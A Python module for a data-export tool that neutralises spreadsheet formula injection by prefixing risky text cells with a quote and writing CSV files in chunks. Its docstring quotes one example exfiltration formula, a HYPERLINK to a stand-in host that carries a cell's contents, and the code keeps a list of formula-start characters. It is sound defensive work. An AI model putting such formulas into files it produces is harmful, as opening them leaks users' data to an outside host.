"""Text cells safe to open in a spreadsheet: answers that would run as formulas are written as text.

Answers come from tablets, and labels from forms made by others. Excel, LibreOffice and Google Sheets evaluate a cell
that starts with `=`, `+`, `-` or `@` as a formula (tab and carriage return in front are skipped by some of them), so
an answer such as `=HYPERLINK("http://x/?"&A1, "open")` would run when a CSV or XLSX we wrote is opened. OWASP's rule
("CSV injection"): put a single quote in front of such a cell; spreadsheets then show it as text.

Only text cells are changed. Numbers are data, not formulas: a numeric column is never touched, and a text cell that
is one plain number (`-5`, `+7.5`, `-1e3`) is kept as it is, since a spreadsheet reads it as that number and nothing
runs. Parquet, .sav and .dta keep every value exactly; only files meant for spreadsheets go through here.
"""

from __future__ import annotations

import contextlib
import csv
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

# OWASP's list of characters that start a formula (tab and carriage return included).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Quoted in front of such a cell (OWASP); spreadsheets show the rest as text.
TEXT_PREFIX = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet cell: text starting a formula gets TEXT_PREFIX, everything else is unchanged.

    Parameters:
        value: any cell value; only `str` values are changed.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return TEXT_PREFIX + value
    return value


def safe_row(values: list[Any] | tuple[Any, ...]) -> list[Any]:
    """Every cell of a row through `safe_cell`."""
    return [safe_cell(v) for v in values]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells are safe (see `safe_cell`); numeric, date and boolean columns are kept.

    Parameters:
        frame: the table to write as CSV; it is not changed.
    """
    changed: dict[int, pd.Series] = {}
    for position, (_, column) in enumerate(frame.items()):
        if not (pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype)):
            continue
        try:
            starts = column.str.startswith(FORMULA_STARTS, na=False).to_numpy(dtype=bool)
        except AttributeError:  # an object column without any text (codes as Python ints)
            continue
        rows = np.flatnonzero(starts)
        if not len(rows):
            continue
        candidates = column.iloc[rows]
        rows = rows[~candidates.str.fullmatch(_PLAIN_NUMBER.pattern, na=False).to_numpy(dtype=bool)]
        if len(rows):
            fixed = column.copy()
            fixed.iloc[rows] = TEXT_PREFIX + column.iloc[rows].astype(str)
            changed[position] = fixed
    if not changed:
        return frame
    result = frame.copy()
    for position, column in changed.items():
        result.isetitem(position, column)  # type: ignore[arg-type]  # pandas-stubs omit Series, which isetitem takes
    return result


# Rows formatted and written at a time: bounds the Python objects held for a large table (a few hundred MB at
# 100,000 households) while keeping the per-chunk cost negligible.
CSV_ROWS_PER_CHUNK = 20_000


def _csv_cells(column: pd.Series) -> list[Any] | None:
    """The cells of one column for `csv.writer`, as pandas' `to_csv` writes them (missing values as ""), or None for
    a dtype left to pandas."""
    dtype = column.dtype
    if dtype == np.float64:
        values = column.to_numpy()
        # repr() is what numpy's str() of a float64 gives; made here once for both files of a pair
        cells: list[Any] = list(map(repr, values.tolist()))
        for row in np.flatnonzero(np.isnan(values)).tolist():
            cells[row] = ""
        return cells
    if isinstance(dtype, pd.Int64Dtype):
        missing = column.isna().to_numpy()
        cells = column.to_numpy(dtype="int64", na_value=0).tolist()
        for row in np.flatnonzero(missing).tolist():
            cells[row] = ""
        return cells
    if pd.api.types.is_object_dtype(dtype) or isinstance(dtype, pd.StringDtype):
        values = column.to_numpy(dtype=object, na_value="")
        missing = pd.isna(values)
        if missing.any():
            values[missing] = ""
        return values.tolist()
    return None


def write_csv(path: Path, frame: pd.DataFrame) -> None:
    """Write `frame` as CSV for spreadsheets: UTF-8 with BOM (so that Excel shows Cyrillic), text cells made safe
    (`safe_frame`), no index; the same bytes as pandas' `to_csv(path, index=False, encoding="utf-8-sig")`.

    Number and text columns go straight to `csv.writer` (pandas' writer formats every cell through several
    layers and took most of the export's time); other dtypes (dates, booleans) are left to pandas.

    Parameters:
        path: the file to write (the caller makes the write atomic).
        frame: the table; it is not changed.
    """
    write_csv_pair(path, frame, None, {})


def write_csv_pair(path: Path, frame: pd.DataFrame, other: Path | None, replaced: Mapping[str, pd.Series]) -> None:
    """Write `frame` to `path` as `write_csv` does and, when `other` is given, the same table with the columns of
    `replaced` in place of frame's columns of those names to `other` (the labelled CSV beside the plain one): the
    cells the two files share are made once.

    Parameters:
        path: the file of `frame`.
        frame: the table; it is not changed.
        other: the file of the variant, or None.
        replaced: column name -> the variant's column (same length as `frame`).
    """
    safe = safe_frame(frame)
    swaps = safe_frame(pd.DataFrame(dict(replaced), index=frame.index)) if replaced else pd.DataFrame()
    positions = [(int(safe.columns.get_indexer(pd.Index([name]))[0]), name) for name in swaps.columns]
    variant = safe.copy(deep=False) if other is not None else None
    if variant is not None:
        for position, name in positions:
            variant.isetitem(position, swaps[name])  # type: ignore[arg-type]  # pandas-stubs omit Series here
    tables = [(path, safe)] + ([(other, variant)] if other is not None and variant is not None else [])
    if not len(safe.columns) or any(
        _csv_cells(table.iloc[:0, i]) is None for _, table in tables for i in range(len(table.columns))
    ):
        for target, table in tables:
            table.to_csv(target, index=False, encoding="utf-8-sig")
        return
    with contextlib.ExitStack() as stack:
        writers = []
        for target, _ in tables:
            handle = stack.enter_context(open(target, "w", encoding="utf-8-sig", newline=""))  # noqa: PTH123
            writers.append(csv.writer(handle, lineterminator="\n"))
            writers[-1].writerow([str(name) for name in safe.columns])
        for start in range(0, len(safe), CSV_ROWS_PER_CHUNK):
            chunk = safe.iloc[start : start + CSV_ROWS_PER_CHUNK]
            columns = [_csv_cells(chunk.iloc[:, i]) for i in range(len(chunk.columns))]
            writers[0].writerows(zip(*columns, strict=True))
            if len(writers) > 1:
                for position, name in positions:
                    columns[position] = _csv_cells(swaps[name].iloc[start : start + CSV_ROWS_PER_CHUNK])
                writers[1].writerows(zip(*columns, strict=True))
